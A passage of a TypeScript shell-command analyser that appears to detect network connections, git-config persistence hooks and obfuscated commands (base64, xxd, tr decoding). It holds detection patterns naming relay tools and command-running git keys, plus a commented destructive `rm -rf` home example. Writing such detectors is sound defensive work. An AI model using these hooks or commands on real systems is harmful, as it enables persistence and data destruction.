      // cloud CLIs' ssh into a machine by name (`gcloud compute ssh VM`, `az ssh vm -n VM`, `aws ec2-instance-connect ssh`)
      if (
        (program === "gcloud" && /^(?:ssh|scp)$/.test(pos[1]?.value ?? "") && /^(?:compute|alpha|beta)$/.test(pos[0]?.value ?? "")) ||
        (program === "az" && pos[0]?.value === "ssh" && /^(?:vm|arc|host)$/.test(pos[1]?.value ?? "")) ||
        (program === "aws" && pos[0]?.value === "ec2-instance-connect" && pos[1]?.value === "ssh")
      ) {
        const vm = pos[2]?.value ?? optValues(args, ["-n", "--name", "--vm-name", "--instance-id"])[0] ?? "vm";
        const port = Number(optValues(args, ["--port"])[0] ?? 22) || 22;
        seen = !!this.net(program, { url: `ssh://${vm.replace(/^.*@/, "")}:${port}`, host: vm.replace(/^.*@/, "").toLowerCase(), port }, inh);
      }
      if (/^ansible(?:-playbook|-pull)?$/.test(program))
        for (const inv of optValues(args, ["-i", "--inventory", "--inventory-file"]))
          if (inv.includes(",")) for (const h of inv.split(",").filter(Boolean)) seen = !!this.sshTarget(program, h.trim(), -1, inh) || seen;
      if (seen && !progOf(program).net) return;
    }
    const spec = progOf(program).net;
    if (!spec) return;
    const flags = flagsOf(args);
    // nc/telnet/ftp: host then port
    if (spec.hostPort) {
      if (progOf(program).listen?.when?.some((t) => triggerMatches(t, args, flags))) return; // listening, not connecting
      const [h, p] = [pos[0]?.value, pos[1]?.value];
      if (h && !h.startsWith("-")) {
        const u = /^[a-z]+:\/\//i.test(h) ? parseTarget(h) : null;
        if (u) this.net(program, u, inh);
        else {
          const [hh, hp] = portOf(h, -2);
          const byOpt = Number(optValues(args, spec.port ?? [])[0] ?? Number.NaN);
          const port = !Number.isNaN(byOpt)
            ? byOpt
            : hp !== -2
              ? hp
              : p !== undefined && /^\d+$/.test(p)
                ? Number(p)
                : p !== undefined
                  ? (SERVICE_PORTS[p.toLowerCase()] ?? -1)
                  : (spec.def ?? -1);
          this.net(program, { url: `tcp://${hh}:${port}`, host: hh.toLowerCase(), port }, inh);
        }
      }
      return;
    }
    // clients naming the server by option (-h/-P), URL or host:port
    let host: string | undefined = optValues(args, spec.host ?? [])[0];
    let port = Number(optValues(args, spec.port ?? [])[0] ?? Number.NaN);
    for (const v of optValues(args, spec.hp ?? [])) {
      const u = /^[a-z][a-z0-9+.-]*:\/\//i.test(v) ? parseTarget(v) : null;
      if (u) [host, port] = [u.host, Number.isNaN(port) ? u.port : port];
      else [host, port] = portOf(v, Number.isNaN(port) ? (spec.def ?? -1) : port);
    }
    if (spec.url)
      for (const p of pos) {
        if (!new RegExp(`^${spec.url}[a-z]*://`, "i").test(p.value) && !(spec.url === "http" || spec.url === "https")) continue;
        const t = parseTarget(p.value, spec.url);
        if (t) {
          this.net(program, Number.isNaN(port) ? t : { ...t, port }, inh);
          return;
        }
      }
    if (!host && spec.hostArg) {
      const h = pos.find((p) => !p.value.startsWith("@"))?.value;
      const server = pos.find((p) => p.value.startsWith("@"))?.value.slice(1); // dig @server
      host = server ?? h;
    }
    if (!host || LOCAL_SOCKET.test(host)) return;
    const [hh, hp] = portOf(host, -2);
    const finalPort = !Number.isNaN(port) ? port : hp !== -2 ? hp : (spec.def ?? -1);
    this.net(program, { url: `tcp://${hh}:${finalPort}`, host: hh.toLowerCase(), port: finalPort }, inh);
  }

  /** An ssh-style peer (`[user@]host`, `ssh://host:port`): a host without a dot may be an alias in
   * ~/.ssh/config, which can set any port, so its port is unknown (-1) unless the command gives it. */
  private sshTarget(program: string, spec: string, port: number, inh: Inherit, upload = false): OpContext | null {
    if (/^ssh:\/\//i.test(spec)) {
      const t = parseTarget(spec, "ssh");
      return t
        ? this.net(program, port !== -1 && !/:\d+(\/|$)/.test(spec.replace(/^ssh:\/\/[^/]*@/, "ssh://")) ? { ...t, port } : t, inh, upload)
        : null;
    }
    const [h0, p0] = portOf(spec.replace(/^.*@/, ""), -2);
    const h = h0.toLowerCase();
    if (!h) return null;
    const alias = !h.includes(".") && !h.includes(":") && h !== "localhost";
    const p = port !== -1 ? port : p0 !== -2 ? p0 : alias ? -1 : 22;
    return this.net(program, { url: `ssh://${h}:${p}`, host: h, port: p }, inh, upload);
  }

  /** A command line a program runs (rsync -e, ssh ProxyCommand, git -c core.pager=…, socat EXEC:). */
  /** `git config [--global|--system|--file F] KEY VALUE` (and `git config set KEY VALUE`) with a key whose value
   * is a command git runs later (`core.fsmonitor`, `core.pager`, `core.sshCommand`, `alias.x='!…'`): the value is
   * analysed as the command it is, and when it is more than one plain program (a shell, code, a pipeline,
   * the network, a write) setting it writes a persistence location, the config file it goes to. */
  private gitConfigSet(args: string[], pos: { value: string; idx: number }[], inh: Inherit) {
    let kv = pos.slice(1).map((p) => p.value);
    if (kv[0] === "set" || kv[0] === "--add" || kv[0] === "--replace-all") kv = kv.slice(1);
    if (args.some((a) => /^--(get|unset|remove-section|rename-section|list|edit)/.test(a) || a === "-l" || a === "-e")) return;
    if (kv.length < 2) return;
    const key = kv[0].toLowerCase();
    if (!GIT_COMMAND_KEY.test(key) || (key.startsWith("alias.") && !kv[1].startsWith("!"))) return;
    const start = this.ops.length;
    this.runString(kv[1].replace(/^!/, ""), inh);
    const ran = this.ops.slice(start);
    const execs = ran.filter((o) => o.op === "exec");
    const more =
      execs.length > 1 ||
      ran.some((o) => o.op !== "exec" && o.op !== "read" && o.op !== "access") ||
      execs.some(
        (o) => SHELL_SET.has(o.program) || !!o.code || !!o.interp || this.unknown.has(o) || (o.programPath.includes("/") && !knownProgram(o.program)),
      );
    if (!more) return;
    const file =
      optValues(args, ["-f", "--file"])[0] ??
      (args.includes("--global") ? "~/.gitconfig" : args.includes("--system") ? "/etc/gitconfig" : ".git/config");
    const w = this.pathOp("write", file, false, "git", inh);
    w.content = `${kv[0]} = ${kv[1]}`.toLowerCase();
  }

  private runString(src: string, inh: Inherit) {
    try {
      this.script(parseShell(src, { vars: inh.vars, depth: inh.depth + 1 }), { ...inh, depth: inh.depth + 1 });
    } catch {
      /* unreadable: the program's own op still carries what it does */
    }
  }
}

/** git settings whose value is a command git runs (on `status`, `log`, a fetch, an alias, a diff) */
/** Library calls that open a socket; group 2 is the text of their arguments (host string, port number). */
const SOCKET_CALL =
  /(create_connection|\.connect|createConnection|(?<![\w])(?:fabric\.)?Connection|HTTPS?Connection|Telnet|TCPSocket\.(?:new|open)|Socket\.tcp|Net::HTTP\.(?:new|start)|p?fsockopen|stream_socket_client|sockaddr_in|INET6?->new|Net::SSH\.start|Net::SFTP\.start|asyncssh\.connect|https?\.(?:get|request)|\(\s*["'](?:node:)?https?["']\s*\)\.(?:get|request)|tls\.connect)\s*\(([^;]{0,160}?)\)\s*(?=[;,)\n.]|$)/g;
/** Inline code as its effects read plainly: adjacent string literals joined (`'ca' + 't'`, `"a" . "b"`), and the
 * home directory spelt inside a string (`"$ENV{HOME}/.bashrc"`, `f"{Path.home()}/x"`, `` `${os.homedir()}/x` ``) as `~`. */
export function normaliseCode(code: string): string {
  // Python module aliases (`import subprocess as s` → `s.run(` is `subprocess.run(`), and home expansions of a literal
  for (const m of code.matchAll(/\bimport\s+([\w.]+)\s+as\s+(\w+)/g))
    if (m[2] !== m[1]) code = code.replace(new RegExp(`\\b${m[2]}\\.`, "g"), `${m[1]}.`);
  code = code.replace(/(?:os\.path\.)?(?:expanduser|File\.expand_path)\(\s*(["'])(~[^"'\n]*)\1\s*\)/g, "$1$2$1");
  let out = code.replace(
    /\$ENV\{\s*["']?HOME["']?\s*\}|#\{\s*(?:Dir\.home|ENV\[\s*["']HOME["']\s*\])\s*\}|\$\{\s*(?:process\.env\.HOME|(?:require\(["']os["']\)\.|os\.)?homedir\(\))\s*\}|\{\s*(?:Path\.home\(\)|os\.path\.expanduser\(["']~["']\))\s*\}/g,
    "~",
  );
  // the home directory as a bare expression (`Dir.home`, `homedir()`, `Path.home()`, `getenv("HOME")`): the string "~"
  out = out
    .replace(/\b(?:pathlib\.)?Path\.home\(\)/g, 'Path("~")')
    .replace(
      /(?:require\(\s*["'](?:node:)?os["']\s*\)\.|\bos\.)homedir\(\)|\bDir\.home\b|(?<![\w.])homedir\(\)|\bprocess\.env\.HOME\b|\bDeno\.env\.get\(\s*["']HOME["']\s*\)|\bos\.environ\[\s*["']HOME["']\s*\]|\bENV\[\s*["']HOME["']\s*\]|\bgetenv\(\s*["']HOME["']\s*\)|\bos\.path\.expanduser\(\s*["']~["']\s*\)|\bSys\.getenv\(\s*["']HOME["']\s*\)/g,
      '"~"',
    );
  // `~` left bare as an argument (`system("rm", "-rf", $ENV{HOME})`): the string "~"
  out = out.replace(/([,(]\s*)~(?=\s*[,)])/g, '$1"~"');
  for (let i = 0; i < 6; i++) {
    const next = out.replace(
      /(["'])([^"'\\\n]*)\1\s*[+.]\s*(["'])([^"'\\\n]*)\3/g,
      (_m, q: string, a: string, _q2: string, b: string) => `${q}${a}${b}${q}`,
    );
    if (next === out) break;
    out = next;
  }
  return out;
}

const SSH_FAMILY = new Set([
  "ssh",
  "dbclient",
  "plink",
  "scp",
  "sftp",
  "psftp",
  "pscp",
  "rsync",
  "git",
  "mosh",
  "autossh",
  "slogin",
  "sshfs",
  "ssh-copy-id",
  "ssh-keyscan",
]);
/** curl's bundled short flags (`-sT FILE`, `-sSLo F`): the boolean ones split off so the last one's value is seen */
function unbundleCurl(args: string[]): string[] {
  return args.flatMap((a) => (/^-[sSLkvifgGNnqIjJlRZ46]+[a-zA-Z]$/.test(a) && a.length > 2 ? [...a.slice(1)].map((ch) => `-${ch}`) : [a]));
}

/** Service names clients accept for a port (`nc host ssh`, `telnet host smtp`), as /etc/services has them. */
const SERVICE_PORTS: Record<string, number> = {
  ssh: 22,
  telnet: 23,
  ftp: 21,
  smtp: 25,
  domain: 53,
  http: 80,
  https: 443,
  pop3: 110,
  imap: 143,
  imaps: 993,
  submission: 587,
  mysql: 3306,
  postgresql: 5432,
  "ms-wbt-server": 3389,
  redis: 6379,
};

const GIT_COMMAND_KEY =
  /^(core\.(pager|editor|sshcommand|fsmonitor|askpass|gitproxy)|sequence\.editor|diff\.external|credential\.helper|gpg\.program|alias\..*|pager\..*|uploadpack\.packobjectshook|.*\.(command|textconv|process|clean|smudge|cmd))$/;

/** programs whose listening the analysis reads itself (forward specs, relays) */
const LISTENERS = new Set(["ssh", "autossh", "socat", "websocat", "chisel", "httpd"]);
const LOCAL_SOCKET = /^(?:\/|localhost$|127\.0\.0\.1$)/;
/** `-o Port=2222`, `-oPort=2222`, `-o "Port 2222"` or the port option: the port given, else -1. */
function sshPort(args: string[], opt: string): number {
  let port = -1;
  if (opt) for (const v of optValues(args, [opt])) if (/^\d+$/.test(v)) port = Number(v);
  for (const [, v] of optPairs(args, ["-o"])) {
    const m = /^port\s*[= ]\s*(\d+)$/i.exec(v.trim());
    if (m) port = Number(m[1]);
  }
  return port;
}
/** Values of options given as `-X v` or `-Xv` (each with its option). */
function optPairs(args: string[], names: string[]): [string, string][] {
  const out: [string, string][] = [];
  for (let i = 0; i < args.length; i++)
    for (const n of names) {
      if ((args[i] === n || (n.length === 2 && new RegExp(`^-[a-zA-Z]+${n[1]}$`).test(args[i]))) && i + 1 < args.length) out.push([n, args[i + 1]]);
      else if (args[i].startsWith(n) && args[i].length > n.length && !args[i].startsWith("--")) out.push([n, args[i].slice(n.length)]);
    }
  return out;
}
/** `[a]:b:c` parts of a forward spec, IPv6 brackets kept together. */
function splitHostPort(v: string): string[] {
  return v.match(/\[[^\]]*\]|[^:]+/g) ?? [];
}
/** `host:port`, `[v6]:port`, `port`, or a URL → [host, port]; `def` when no port is given. */
function portOf(v: string, def: number): [string, number] {
  if (/^[a-z][a-z0-9+.-]*:\/\//i.test(v)) {
    const t = parseTarget(v);
    return t ? [t.host, t.port] : ["", def];
  }
  if (/^\d+$/.test(v)) return ["", Number(v)];
  const m = /^(\[[^\]]*\]|[^:]*):(\d+)$/.exec(v);
  if (m) return [m[1].replace(/^\[|\]$/g, ""), Number(m[2])];
  return [v, def];
}
/** Here-document bodies in the order their commands appear (`<<EOF`, `<<-'EOF'`, `<< "EOF"`). */
function heredocBodies(src: string): string[] {
  const out: string[] = [];
  if (!src.includes("<<")) return out;
  const re = /<<(-?)[ \t]*(['"]?)([\w.-]+)\2/g;
  let from = 0;
  for (let m = re.exec(src); m; m = re.exec(src)) {
    if (src[m.index + 2] === "<") continue; // here-string
    const nl = src.indexOf("\n", Math.max(from, m.index));
    if (nl < 0) break;
    const lines = src.slice(nl + 1).split("\n");
    const body: string[] = [];
    let used = nl + 1;
    for (const line of lines) {
      used += line.length + 1;
      if ((m[1] ? line.replace(/^\t+/, "") : line) === m[3]) break;
      body.push(line);
    }
    out.push(body.join("\n"));
    from = used;
  }
  return out;
}

const isRemoteSpec = (s: string) => /^(?:[\w.-]+@)?[\w.-]+:(?!\/\/)/.test(s) && !s.startsWith("/") && !/^[a-z]:\\/i.test(s);
function basename(p: string): string {
  const s = p.replace(/\/+$/, "");
  const i = s.lastIndexOf("/");
  return i >= 0 ? s.slice(i + 1) : s;
}
const shellQuote = (s: string) => (/^[\w@%+=:,./~-]+$/.test(s) ? s : `'${s.replace(/'/g, "'\\''")}'`);
/** A word written back for the shell to read again: its value quoted, or, when computed, as written. */
const reread = (w: Word) => (w.dynamic ? w.sh : w.glob && /^[^\s;&|<>()'"$`]+$/.test(w.pat) ? w.pat : shellQuote(w.text));

// ---- pure text commands, evaluated: what a substitution or a pipe computes when only text goes in and out ----

const decodeEscapes = (s: string) =>
  s
    .replace(/\\x([0-9a-fA-F]{1,2})/g, (_m, h: string) => String.fromCharCode(Number.parseInt(h, 16)))
    .replace(/\\0?([0-7]{1,3})/g, (_m, o: string) => String.fromCharCode(Number.parseInt(o, 8)))
    .replace(/\\n/g, "\n")
    .replace(/\\t/g, "\t")
    .replace(/\\\\/g, "\\");
/** tr's SET with ranges (`a-z`) expanded */
const trSet = (set: string) =>
  decodeEscapes(set).replace(/(.)-(.)/g, (_m, a: string, b: string) => {
    let out = "";
    for (let c = a.charCodeAt(0); c <= b.charCodeAt(0) && out.length < 256; c++) out += String.fromCharCode(c);
    return out;
  });
const MAX_PURE = 4096;

/** The output of one command that only transforms text (echo, printf, cat, rev, base64/base32 -d, xxd -r -p,
 * tr, cut, openssl base64 -d), given its input; undefined when it does anything else or is not static. */
function pureOutput(c: SimpleCmd, input: string | undefined): string | undefined {
  if (!c.words.length || c.words.some((w) => w.dynamic || w.glob) || c.assigns.length) return undefined;
  for (const r of c.redirs) {
    if (r.target.dynamic) return undefined;
    if (r.op === "<<<") input = `${r.target.text}\n`;
  }
  if (c.redirs.some((r) => r.op !== "<<<")) return undefined;
  const [p0, ...a] = c.words.map((w) => w.text);
  const prog = basename(p0);
  const flags = a.filter((x) => x.startsWith("-"));
  const pos = a.filter((x) => !x.startsWith("-"));
  const decode = flags.some((f) => /^-[a-zA-Z]*d|^--decode$/.test(f));
  switch (prog) {
    case "echo": {
      const e = flags.some((f) => /e/.test(f));
      const text = a.filter((x, i) => !(i < flags.length && /^-[neE]+$/.test(x))).join(" ");
      return (e ? decodeEscapes(text) : text) + (flags.some((f) => /^-[eE]*n/.test(f)) ? "" : "\n");
    }
    case "printf": {
      if (!a.length || a[0] === "-v") return undefined;
      const fmt = decodeEscapes(a[0]);
      const args = a.slice(1);
      let i = 0;
      let out = "";
      do {
        out += fmt.replace(/%[sbdq]/g, () => args[i++] ?? "");
      } while (i < args.length && /%[sbdq]/.test(fmt) && out.length < MAX_PURE);
      return out;
    }
    case "cat":
      return pos.length ? undefined : input;
    // path text: `dirname ~/.ssh/x` is `~/.ssh`, `basename /a/b.sh .sh` is `b`
    case "dirname":
      if (pos.length !== 1 || flags.length) return undefined;
      return `${pos[0].includes("/") ? pos[0].replace(/\/*[^/]*\/*$/, "") || "/" : "."}\n`;
    case "basename": {
      if (!pos.length || pos.length > 2 || flags.length) return undefined;
      const b = pos[0].replace(/\/+$/, "").replace(/^.*\//, "");
      return `${pos[1] && b.endsWith(pos[1]) && b !== pos[1] ? b.slice(0, -pos[1].length) : b}\n`;
    }
    case "rev":
      return input
        ?.split("\n")
        .map((l) => [...l].reverse().join(""))
        .join("\n");
    case "base64":
    case "base32":
      if (!decode || pos.length || input === undefined) return undefined;
      if (prog === "base32") return undefined;
      return Buffer.from(input.replace(/\s+/g, ""), "base64").toString("latin1");
    case "openssl":
      if (!(a[0] === "base64" || (a[0] === "enc" && a.includes("-base64"))) || !a.includes("-d") || input === undefined) return undefined;
      return Buffer.from(input.replace(/\s+/g, ""), "base64").toString("latin1");
    case "xxd":
      if (!flags.some((f) => /r/.test(f)) || !flags.some((f) => /p/.test(f)) || input === undefined) return undefined;
      return Buffer.from(input.replace(/[^0-9a-fA-F]/g, ""), "hex").toString("latin1");
    case "tr": {
      if (input === undefined) return undefined;
      if (flags.includes("-d") && pos.length === 1) {
        const del = new Set(trSet(pos[0]));
        return [...input].filter((ch) => !del.has(ch)).join("");
      }
      if (flags.length || pos.length !== 2) return undefined;
      const [from, to] = [trSet(pos[0]), trSet(pos[1])];
      return [...input].map((ch) => (from.includes(ch) ? (to[Math.min(from.indexOf(ch), to.length - 1)] ?? ch) : ch)).join("");
    }
    case "cut": {
      const d = optValues(a, ["-d"])[0] ?? (a.find((x) => x.startsWith("-d") && x.length > 2)?.slice(2) || "\t");
      const f = optValues(a, ["-f"])[0] ?? a.find((x) => x.startsWith("-f") && x.length > 2)?.slice(2);
      if (input === undefined || !f || !/^\d+$/.test(f)) return undefined;
      return input
        .split("\n")
        .map((l) => l.split(d)[Number(f) - 1] ?? "")
        .join("\n");
    }
    default:
      return undefined;
  }
}

/** A word's value with each command substitution (`$(…)`, backticks) replaced by its output, when every one of
 * them only computes text and nothing else in the word is computed; undefined otherwise. */
function pureScriptOf(src: string, vars: Map<string, string>): string | undefined {
  try {
    return pureScript(parseShell(src, { vars: new Map(vars) }));
  } catch {
    return undefined;
  }
}

export function substitutePure(w: Word, vars: Map<string, string> = new Map()): string | undefined {
  const src = w.sh;
  let out = "";
  let i = 0;
  while (i < src.length) {
    if (src.startsWith("$(", i) && !src.startsWith("$((", i)) {
      let depth = 1;
      let j = i + 2;
      for (; j < src.length && depth; j++) depth += src[j] === "(" ? 1 : src[j] === ")" ? -1 : 0;
      if (depth) return undefined;
      const inner = src.slice(i + 2, j - 1);
      let v: string | undefined;
      try {
        v = pureScript(parseShell(inner, { vars: new Map(vars) }));
      } catch {
        return undefined;
      }
      if (v === undefined) return undefined;
      out += v.replace(/\n+$/, "");
      i = j;
      continue;
    }
    if (src[i] === "`") {
      const j = src.indexOf("`", i + 1);
      if (j < 0) return undefined;
      let v: string | undefined;
      try {
        v = pureScript(parseShell(src.slice(i + 1, j), { vars: new Map(vars) }));
      } catch {
        return undefined;
      }
      if (v === undefined) return undefined;
      out += v.replace(/\n+$/, "");
      i = j + 1;
      continue;
    }
    if (src[i] === "$" || src.startsWith("<(", i) || src.startsWith(">(", i)) return undefined;
    out += src[i++];
  }
  return out;
}

/** The output of a script whose commands only transform text (one pipeline, assignments allowed before it). */
export function pureScript(s: Script, depth = 0): string | undefined {
  const cmds = s.cmds.filter((c) => c.words.length);
  if (!cmds.length || depth > 6) return undefined;
  const last = cmds[cmds.length - 1];
  const chain: SimpleCmd[] = [];
  for (let c: SimpleCmd | undefined = last; c; c = c.pipeFrom[c.pipeFrom.length - 1]) chain.unshift(c);
  if (cmds.some((c) => !chain.includes(c))) return undefined;
  let out: string | undefined;
  for (const c of chain) {
    out = pureOutput(c, out);
    if (out === undefined || out.length > MAX_PURE) return undefined;
  }
  return out;
}
